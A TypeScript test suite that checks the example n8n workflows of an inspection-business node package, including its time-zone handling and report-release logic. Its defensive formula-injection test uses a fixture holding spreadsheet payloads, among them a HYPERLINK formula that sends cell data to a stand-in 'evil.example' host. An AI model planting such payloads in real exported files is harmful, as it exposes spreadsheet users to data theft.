/**
 * The example workflows, read as files (the e2e suite imports and runs them in
 * a real n8n): each uses the nodes' current versions with parameters those
 * versions show, the triggers are among them, scheduled reads take only what
 * changed, and every credential and webhook they name is the one the demo and
 * the e2e setup create. No example writes to a record the user did not pick, and
 * none that a trigger starts (a business moment, a change) needs code: n8n's
 * no-code nodes shape what it sends, each selected event on a branch of its own.
 * What the owner reads (the report's link, the dates) is checked here through
 * n8n's expression engine.
 */
import type {
	IDataObject,
	IExecuteFunctions,
	INode,
	INodeType,
	IVersionedNodeType,
} from 'n8n-workflow';
import { NodeHelpers } from 'n8n-workflow';
import fc from 'fast-check';

import { resources } from '../nodes/InspectionBusiness/actions/router';
import { InspectionBusiness } from '../nodes/InspectionBusiness/InspectionBusiness.node';
import { InspectionBusinessTrigger } from '../nodes/InspectionBusinessTrigger/InspectionBusinessTrigger.node';
import { InspectionBusinessWebhookTrigger } from '../nodes/InspectionBusinessWebhookTrigger/InspectionBusinessWebhookTrigger.node';
import { ENDPOINTS } from '../nodes/shared/endpoints';
import {
	allAgreementsSigned,
	hasNothingToPay,
	hasNothingToSign,
	isPaid,
	publishedReportCount,
	someReportPublished,
} from '../nodes/shared/inspectionFacts';
import {
	loadExamples,
	SANDBOX_CREDENTIAL,
	SANDBOX_WEBHOOK_CREDENTIAL,
	WEBHOOK_EXAMPLE,
} from '../scripts/workflows';
import { withExecuteContext } from './helpers/n8n';

const PACKAGE = 'n8n-nodes-inspection-business';
const NODE_TYPES: Record<string, INodeType | IVersionedNodeType> = {
	[`${PACKAGE}.inspectionBusiness`]: new InspectionBusiness(),
	[`${PACKAGE}.inspectionBusinessTrigger`]: new InspectionBusinessTrigger(),
	[`${PACKAGE}.inspectionBusinessWebhookTrigger`]: new InspectionBusinessWebhookTrigger(),
};

/** The version a node added from the nodes panel gets, and that version's description. */
function current(type: INodeType | IVersionedNodeType) {
	if ('nodeVersions' in type) {
		const version = type.description.defaultVersion ?? type.currentVersion;
		return { version, description: type.nodeVersions[version].description };
	}
	const { version } = type.description;
	return {
		version: Array.isArray(version) ? Math.max(...version) : version,
		description: type.description,
	};
}

const examples = loadExamples();
const packageNodes = examples.flatMap((workflow) =>
	workflow.nodes
		.filter((node) => node.type in NODE_TYPES)
		.map((node) => ({ workflow: workflow.id, node: node as unknown as INode })),
);
/** A record picker left empty in the file, for the user to fill before the first run. */
const emptyPicker = (value: unknown) =>
	typeof value === 'object' &&
	value !== null &&
	(value as { __rl?: boolean }).__rl === true &&
	(value as { value?: unknown }).value === '';

/** The operations that change something in the account (any method but GET). */
const writes = ({ node }: { node: INode }) =>
	node.type === `${PACKAGE}.inspectionBusiness` &&
	ENDPOINTS[resources[String(node.parameters.resource)][String(node.parameters.operation)].endpoint]
		.method !== 'GET';

const starts = (type: string) =>
	examples.filter((workflow) => workflow.nodes.some((node) => node.type === `${PACKAGE}.${type}`));

test('there are nine examples, each with one of the package nodes', () => {
	expect(examples.map((workflow) => workflow.id)).toEqual([
		'IbExampleAcctExp',
		'IbExampleCrmHook1',
		'IbExampleCrmSync',
		'IbExampleTeamNote',
		'IbExamplePaidSign',
		'IbExamplePaidAcct',
		'IbExampleReminder',
		'IbExampleReportUp',
		'IbExampleReviewRq',
	]);
	for (const workflow of examples)
		expect(packageNodes.some((entry) => entry.workflow === workflow.id)).toBe(true);
});

test.each(packageNodes)('$workflow › $node.name uses the current version', ({ node }) => {
	const { version, description } = current(NODE_TYPES[node.type]);
	expect(node.typeVersion).toBe(version);
	// Every parameter it sets is one that version shows for its resource and operation…
	const shown = NodeHelpers.getNodeParameters(
		description.properties,
		node.parameters,
		true,
		false,
		node,
		description,
	);
	// n8n gives every polling node its Poll Times; the node's own description does not list them.
	const notShown = Object.keys(node.parameters).filter(
		(name) => !(name in (shown ?? {})) && !(name === 'pollTimes' && description.polling),
	);
	expect(notShown).toEqual([]);
	// …and n8n finds nothing missing or malformed in them (it would refuse to run the workflow),
	// except a record picker left empty on purpose: the user picks the record a write goes to.
	const pickers = Object.keys(node.parameters).filter((name) => emptyPicker(node.parameters[name]));
	const issues = NodeHelpers.getNodeParametersIssues(description.properties, node, description);
	expect(Object.keys(issues?.parameters ?? {})).toEqual(pickers);
	expect(Object.keys(issues ?? {}).filter((kind) => kind !== 'parameters')).toEqual([]);
});

test('an example that writes starts by hand, from a required record picker left empty, and its note says what it writes', () => {
	const writing = packageNodes.filter(writes);
	expect(
		writing.map(({ node }) => `${node.parameters.resource}.${node.parameters.operation}`),
	).toEqual(['attachment.upload']);
	for (const { workflow: id, node } of writing) {
		const workflow = examples.find((example) => example.id === id)!;
		const types = workflow.nodes.map((entry) => entry.type);
		expect(types).toContain('n8n-nodes-base.manualTrigger');
		expect(types.filter((type) => /[Tt]rigger$/.test(type))).toEqual([
			'n8n-nodes-base.manualTrigger',
		]);
		// The record comes from the node whose picker the user fills, and only from there.
		const picked = packageNodes.filter(
			(entry) => entry.workflow === id && Object.values(entry.node.parameters).some(emptyPicker),
		);
		expect(picked).toHaveLength(1);
		const pickedName = picked[0].node.name;
		const target = JSON.stringify(node.parameters.inspection_id ?? node.parameters.contact_id);
		expect(target).toContain(`$('${pickedName}')`);
		const required = current(NODE_TYPES[picked[0].node.type]).description.properties.filter(
			(property) => property.type === 'resourceLocator' && property.required,
		);
		expect(required.map((property) => property.name)).toContain(
			Object.keys(picked[0].node.parameters).find((name) =>
				emptyPicker(picked[0].node.parameters[name]),
			),
		);
		const note = workflow.nodes.find((entry) => entry.type === 'n8n-nodes-base.stickyNote');
		const content = String((note?.parameters as { content?: string }).content);
		expect(content).toMatch(/writes to the account/);
		expect(content).toContain(pickedName);
	}
});

test('five examples start with the polling trigger (four on business moments), one with the webhook trigger', () => {
	expect(starts('inspectionBusinessTrigger').map((workflow) => workflow.id)).toEqual([
		'IbExampleTeamNote',
		'IbExamplePaidSign',
		'IbExamplePaidAcct',
		'IbExampleReminder',
		'IbExampleReviewRq',
	]);
	expect(starts('inspectionBusinessWebhookTrigger').map((workflow) => workflow.id)).toEqual([
		WEBHOOK_EXAMPLE.id,
	]);
	const webhook = starts('inspectionBusinessWebhookTrigger')[0].nodes.find(
		(node) => node.type === `${PACKAGE}.inspectionBusinessWebhookTrigger`,
	);
	expect(webhook?.webhookId).toBe(WEBHOOK_EXAMPLE.webhookId);
	expect((webhook?.parameters as { headerName: string }).headerName).toBe(
		WEBHOOK_EXAMPLE.secretHeader,
	);
});

test('no example a trigger starts has a Code node: Edit Fields, Filter and Switch shape it', () => {
	const triggered = [
		...starts('inspectionBusinessTrigger'),
		...starts('inspectionBusinessWebhookTrigger'),
	];
	expect(triggered).toHaveLength(6);
	const shaping = triggered.map((workflow) => ({
		workflow: workflow.id,
		code: workflow.nodes.filter((node) => node.type === 'n8n-nodes-base.code').map((n) => n.name),
	}));
	expect(shaping).toEqual(triggered.map((workflow) => ({ workflow: workflow.id, code: [] })));
	const types = new Set(triggered.flatMap((workflow) => workflow.nodes.map((node) => node.type)));
	expect([...types].filter((type) => !type.startsWith(`${PACKAGE}.`)).sort()).toEqual([
		'n8n-nodes-base.filter',
		'n8n-nodes-base.noOp',
		'n8n-nodes-base.set',
		'n8n-nodes-base.stickyNote',
		'n8n-nodes-base.switch',
	]);
});

type Connections = Record<string, { main: Array<Array<{ node: string }>> }>;
const nextNodes = (workflow: (typeof examples)[number], name: string) =>
	((workflow.connections as Connections)[name]?.main ?? []).map((branch) =>
		branch.map((target) => target.node),
	);

/**
 * The trigger gives one item per moment (version 2), each naming its moment in `event`; an
 * example that selects several events sends each to a branch of its own, through a Switch with
 * one rule per selected event, so an owner adds what each moment needs where it belongs.
 */
test('an example whose trigger selects several events sends each event to a branch of its own, by a Switch on event', () => {
	const triggers = packageNodes.filter(
		({ node }) => node.type === `${PACKAGE}.inspectionBusinessTrigger`,
	);
	const several = triggers.filter(({ node }) => (node.parameters.events as string[]).length > 1);
	expect(several.map(({ workflow }) => workflow)).toEqual(['IbExampleTeamNote']);
	for (const { workflow: id, node: trigger } of several) {
		const workflow = examples.find((example) => example.id === id)!;
		const events = trigger.parameters.events as string[];
		const [[routeName, ...others]] = nextNodes(workflow, trigger.name);
		expect(others).toEqual([]);
		const route = workflow.nodes.find((node) => node.name === routeName)!;
		expect(route.type).toBe('n8n-nodes-base.switch');
		const { rules } = route.parameters as unknown as {
			rules: {
				values: Array<{
					conditions: {
						combinator: string;
						conditions: Array<{
							leftValue: string;
							rightValue: string;
							operator: { type: string; operation: string };
						}>;
					};
				}>;
			};
		};
		expect(
			rules.values.map(({ conditions }) =>
				conditions.conditions.map(({ leftValue, operator, rightValue }) => [
					leftValue,
					`${operator.type} ${operator.operation}`,
					rightValue,
				]),
			),
		).toEqual(events.map((event) => [['={{ $json.event }}', 'string equals', event]]));
		// One output per event, each to a node of its own; the last (Switch's fallback) takes what
		// no rule names, such as an item the trigger could not read, so none is dropped.
		expect(
			(route.parameters as { options: { fallbackOutput?: string } }).options.fallbackOutput,
		).toBe('extra');
		const outputs = nextNodes(workflow, routeName);
		expect(outputs.map((branch) => branch.length)).toEqual([...events, 'fallback'].map(() => 1));
		expect(new Set(outputs.flat()).size).toBe(events.length + 1);
	}
});

test('a scheduled Get Many with Return All reads only what changed since the last run', () => {
	const returnAll = packageNodes.filter(
		({ node }) => node.parameters.operation === 'getAll' && node.parameters.returnAll === true,
	);
	expect(returnAll.map(({ workflow }) => workflow).sort()).toEqual([
		'IbExampleAcctExp',
		'IbExampleCrmSync',
	]);
	for (const { node } of returnAll)
		expect((node.parameters.filters as { updated_since?: string }).updated_since).toMatch(
			/^=\{\{ \$json\.since \}\}$/,
		);
});

test('every credential an example names is one the demo and the e2e setup create', () => {
	const known = [
		`inspectionBusinessApi:${SANDBOX_CREDENTIAL.id}:${SANDBOX_CREDENTIAL.name}`,
		`inspectionBusinessWebhookApi:${SANDBOX_WEBHOOK_CREDENTIAL.id}:${SANDBOX_WEBHOOK_CREDENTIAL.name}`,
	];
	const named = examples.flatMap((workflow) =>
		workflow.nodes.flatMap((node) =>
			Object.entries((node.credentials ?? {}) as Record<string, { id: string; name: string }>).map(
				([type, { id, name }]) => `${type}:${id}:${name}`,
			),
		),
	);
	expect(named.length).toBeGreaterThan(5);
	expect(named.filter((credential) => !known.includes(credential))).toEqual([]);
});

test('every connection joins two nodes of its workflow', () => {
	for (const workflow of examples) {
		const names = new Set(workflow.nodes.map((node) => node.name));
		const connections = workflow.connections as Record<
			string,
			{ main: Array<Array<{ node: string }>> }
		>;
		for (const [from, { main }] of Object.entries(connections)) {
			expect(names).toContain(from);
			for (const target of main.flat()) expect(names).toContain(target.node);
		}
	}
});

/**
 * Formula injection: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, per
 * OWASP's CSV injection guidance, a tab or a carriage return) as a formula, so a client named
 * `=HYPERLINK(…)` would become a link in the accountant's sheet. Every example that writes rows
 * to a CSV file or a sheet passes them through one Edit Fields node that writes such text with a
 * leading `'`, which the spreadsheet shows as text. Numbers stay numbers.
 */
describe('rows written to a CSV file or a sheet', () => {
	const GUARD = 'Safe spreadsheet cells';
	const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];
	/** Each example that writes rows, the node that builds a row, and the one that writes it. */
	const ROW_WRITERS = [
		{ id: 'IbExampleAcctExp', row: 'Spreadsheet row', sink: 'CSV file' },
		{
			id: 'IbExamplePaidAcct',
			row: 'Accounting row',
			sink: 'Add the row to your books (replace me)',
		},
	];
	const workflow = (id: string) => examples.find((example) => example.id === id)!;
	const node = (id: string, name: string) =>
		workflow(id).nodes.find((candidate) => candidate.name === name)!;
	const next = (id: string, name: string) =>
		(workflow(id).connections as Record<string, { main: Array<Array<{ node: string }>> }>)[
			name
		]?.main
			.flat()
			.map((target) => target.node);

	it('every example that writes a CSV file or a row for a sheet passes its rows through the guard', () => {
		const spreadsheetFile = (candidate: { type: string; parameters?: unknown }) =>
			candidate.type === 'n8n-nodes-base.convertToFile' &&
			['csv', 'xlsx', 'xls', 'ods'].includes(
				String((candidate.parameters as { operation?: string }).operation),
			);
		const csv = examples.filter((example) => example.nodes.some(spreadsheetFile));
		expect(csv.map((example) => example.id)).toEqual(['IbExampleAcctExp']);
		for (const { id, row, sink } of ROW_WRITERS) {
			expect(next(id, row)).toEqual([GUARD]);
			expect(next(id, GUARD)).toEqual([sink]);
			expect(node(id, GUARD).parameters).toEqual(node('IbExampleAcctExp', GUARD).parameters);
		}
	});

	/** A paid inspection whose client, address, services and statuses are written to run as formulas. */
	const hostile = {
		id: '3f1c2b9e-8d47-4c1a-9e2f-6b5a4d3c2b1a',
		status: 'confirmed',
		deleted: false,
		scheduled_for: '2026-05-01T14:00:00Z',
		updated_at: '2026-05-02T09:30:00Z',
		address: { full: '@SUM(A1:A9)' },
		contacts: [
			{
				role: 'Customer',
				first_name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
				last_name: 'Doe',
				email: '+cmd@example.com',
			},
		],
		services: [{ name: '-2+3' }],
		add_ons: [{ name: 'Radon Test' }],
		price: {
			quote: 500,
			amount_paid: -50,
			amount_due: 0,
			payment_status: '\tpaid',
			paid: true,
			pay_at_close_status: '\rnone',
		},
	};

	/** A row as the example builds it, then as its guard writes it, each by n8n's expression engine. */
	async function rowsOf(id: string, row: string, input: IDataObject) {
		const [built] = await assigned(id, row, [input]);
		const { jsonOutput } = node(id, GUARD).parameters as unknown as { jsonOutput: string };
		const [written] = await evaluated([built], async function () {
			return [this.evaluateExpression(unmarked(jsonOutput), 0) as IDataObject];
		});
		return { built, written };
	}

	it.each([
		{ id: 'IbExampleAcctExp', row: 'Spreadsheet row', input: hostile, amount: 'Amount Paid' },
		{
			id: 'IbExamplePaidAcct',
			row: 'Accounting row',
			input: { event: 'inspection.payment_received', record: hostile, amount_received: -50 },
			amount: 'Amount Received',
		},
	])(
		'$id: a text that would run as a formula is written as text',
		async ({ id, row, input, amount }) => {
			const { built, written } = await rowsOf(id, row, input);
			expect(String(built.Client)).toMatch(/^=HYPERLINK/);
			expect(Object.keys(written)).toEqual(Object.keys(built));
			const risky = Object.entries(built).filter(
				([, cell]) => typeof cell === 'string' && FORMULA_STARTS.includes(cell.charAt(0)),
			);
			expect(risky.length).toBeGreaterThanOrEqual(4);
			for (const [column, cell] of Object.entries(built))
				expect([column, written[column]]).toEqual([
					column,
					risky.some(([name]) => name === column) ? `'${String(cell)}` : cell,
				]);
			expect(written[amount]).toBe(-50);
		},
	);
});

/** A parameter's text without the `=` that marks an expression (evaluateExpression adds it). */
const unmarked = (value: string) => (value.startsWith('=') ? value.slice(1) : value);

/** Runs `fn` in a real execute context whose input is `items`, in a workflow set to `timezone`. */
async function evaluated<T>(
	items: IDataObject[],
	fn: (this: IExecuteFunctions) => Promise<T>,
	timezone?: string,
) {
	const credentials = { apiKey: 'unused', baseUrl: 'https://api.example.test' };
	const { value, error } = await withExecuteContext(fn, {
		credentials,
		items: items.map((json) => ({ json })),
		timezone,
	});
	if (error) throw error;
	return value as T;
}

/** What an example's Edit Fields node assigns to each input item, by n8n's expression engine. */
async function assigned(
	id: string,
	name: string,
	inputs: IDataObject[],
	timezone?: string,
): Promise<IDataObject[]> {
	const workflow = examples.find((example) => example.id === id)!;
	const { assignments, includeOtherFields } = workflow.nodes.find((node) => node.name === name)!
		.parameters as unknown as {
		assignments: { assignments: Array<{ name: string; value: unknown; type: string }> };
		includeOtherFields?: boolean;
	};
	return await evaluated(
		inputs,
		async function (): Promise<IDataObject[]> {
			return inputs.map((input, index) => ({
				...(includeOtherFields ? input : {}),
				...Object.fromEntries(
					assignments.assignments.map(({ name: field, value, type }) => {
						const cell =
							typeof value === 'string' ? this.evaluateExpression(unmarked(value), index) : value;
						return [field, (type === 'number' ? Number(cell) : cell) as IDataObject[string]];
					}),
				),
			}));
		},
		timezone,
	);
}

/** The day it is now in `zone`, as yyyy-mm-dd. */
const todayIn = (zone: string) =>
	new Intl.DateTimeFormat('en-CA', {
		timeZone: zone,
		year: 'numeric',
		month: '2-digit',
		day: '2-digit',
	}).format(new Date());

describe("dates are the account's: in the workflow's timezone", () => {
	const payment = {
		event: 'inspection.payment_received',
		record: {
			id: '3f1c2b9e-8d47-4c1a-9e2f-6b5a4d3c2b1a',
			scheduled_for: '2026-05-01T14:00:00Z',
			address: { full: '12 Elm St, Denver, CO 80205' },
			contacts: [
				{ role: 'Customer', first_name: 'Ada', last_name: 'Ng', email: 'ada@example.com' },
			],
			services: [{ name: 'Full Home Inspection' }],
			add_ons: [],
		},
		amount_received: 212.5,
	};

	// Kiritimati (UTC+14) and Pago Pago (UTC-11) are 25 hours apart: their days always differ, so
	// a date taken in another zone than the workflow's is wrong in at least one of them.
	it.each(['Pacific/Kiritimati', 'Pacific/Pago_Pago'])(
		'the accounting row (%s): the day the payment was reported, the inspection day, the amount received',
		async (zone) => {
			const today = todayIn(zone);
			const [row] = await assigned('IbExamplePaidAcct', 'Accounting row', [payment], zone);
			expect([today, todayIn(zone)]).toContain(row.Date);
			expect(row).toMatchObject({
				'Inspection ID': payment.record.id,
				'Inspection Date': zone === 'Pacific/Kiritimati' ? '2026-05-02' : '2026-05-01',
				Client: 'Ada Ng',
				'Amount Received': 212.5,
			});
		},
	);

	it("the reminder says when the inspection starts in the workflow's timezone", async () => {
		const starting = {
			event: 'inspection.starting',
			record: {
				...payment.record,
				inspectors: [{ id: 'i1', name: 'Alex Rivera' }],
				agreements: { present: true, all_signed: false, items: [{ name: 'Agreement' }] },
				price: { quote: 425, amount_paid: 0, amount_due: 425, paid: false },
				portal_url: 'https://portal.example.com/r/3f1c',
			},
		};
		const [email] = await assigned(
			'IbExampleReminder',
			'Reminder email',
			[starting],
			'America/Denver',
		);
		expect(email).toMatchObject({
			to: 'ada@example.com',
			subject: 'Reminder: your home inspection on Friday, May 1 at 8:00 AM',
		});
		expect(email.text).toContain(
			'at 12 Elm St, Denver, CO 80205 on Friday, May 1 at 8:00 AM, with Alex Rivera.',
		);
		expect(email.text).toContain(
			'Please sign your inspection agreement before we arrive: https://portal.example.com/r/3f1c',
		);
		expect(email.text).toContain('Amount still due: 425');
	});
});

/**
 * The review request links the report only once it is released, by the rule of the trigger's
 * Inspection Paid and Signed and Published (nodes/shared/inspectionFacts): paid or nothing to
 * pay, every agreement signed or none to sign, and a report published (an item, or the reports
 * status partial or published). Compared on generated
 * inspections of every shape the API documents.
 */
describe('the review request mentions the report only when it is released', () => {
	const REVIEW = 'IbExampleReviewRq';
	const released = (record: IDataObject) =>
		(isPaid(record) || hasNothingToPay(record)) &&
		(allAgreementsSigned(record) || hasNothingToSign(record)) &&
		someReportPublished(publishedReportCount(record), (record.reports as IDataObject).status);
	const amount = fc.constantFrom(0, 212.5, 425);
	const inspection = fc.record({
		id: fc.uuid(),
		status: fc.constant('confirmed'),
		address: fc.constant({ full: '12 Elm St, Denver, CO 80205' }),
		contacts: fc.constant([{ role: 'Customer', first_name: 'Ada', email: 'ada@example.com' }]),
		portal_url: fc.constant('https://portal.example.com/r/1'),
		price: fc.record({
			quote: amount,
			amount_due: fc.oneof(amount, fc.constant(null)),
			paid: fc.boolean(),
		}),
		agreements: fc.record({
			present: fc.boolean(),
			all_signed: fc.boolean(),
			items: fc.array(
				fc.record({
					name: fc.constant('Agreement'),
					status: fc.constantFrom('signed', 'sent', null),
					signed_at: fc.constantFrom('2026-05-01T10:00:00Z', '', null),
				}),
				{ maxLength: 3 },
			),
		}),
		reports: fc.record({
			status: fc.constantFrom('na', 'pending', 'partial', 'published'),
			items: fc.array(
				fc.record({
					id: fc.constant('r1'),
					name: fc.constant('Report'),
					status: fc.constantFrom('published', 'draft', null),
				}),
				{ maxLength: 2 },
			),
		}),
	});
	const records = fc.sample(inspection, { numRuns: 400, seed: 43 }) as IDataObject[];

	it('Report released? agrees with the release rule on every generated inspection', async () => {
		const items = records.map((record) => ({ event: 'inspection.ended', record }));
		const gated = await assigned(REVIEW, 'Report released?', items);
		expect(gated.map((item) => item.report_released)).toEqual(records.map(released));
		// Both answers come up often enough to mean something.
		expect(records.filter(released).length).toBeGreaterThan(20);
		expect(records.filter((record) => !released(record)).length).toBeGreaterThan(20);
	});

	it('the email links the report when released, and says nothing of it otherwise', async () => {
		const [record] = records;
		const items = [true, false].map((isReleased) => ({
			event: 'inspection.ended',
			record,
			review_link: 'https://g.page/r/your-business/review',
			report_released: isReleased,
		}));
		const [withReport, without] = await assigned(REVIEW, 'Review request email', items);
		expect(withReport.text).toContain('https://g.page/r/your-business/review');
		expect(withReport.text).toMatch(/\n\nYour report: https:\/\/portal\.example\.com\/r\/1$/);
		expect(without.text).toContain('https://g.page/r/your-business/review');
		expect(without.text).not.toMatch(/report/i);
	});
});
